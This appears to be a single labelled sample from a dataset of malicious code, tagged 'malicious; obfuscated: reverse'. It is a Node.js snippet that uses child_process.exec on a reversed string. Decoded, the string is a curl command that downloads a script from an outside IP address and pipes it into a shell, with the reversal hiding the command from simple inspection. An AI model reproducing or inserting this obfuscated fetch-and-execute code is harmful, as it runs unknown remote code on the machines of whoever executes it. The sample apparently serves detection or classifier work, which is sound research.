// label: malicious; obfuscated: reverse
const cp = require("child_process");
cp.exec("hs | x/9.311.0.302//:ptth lruc".split("").reverse().join(""));
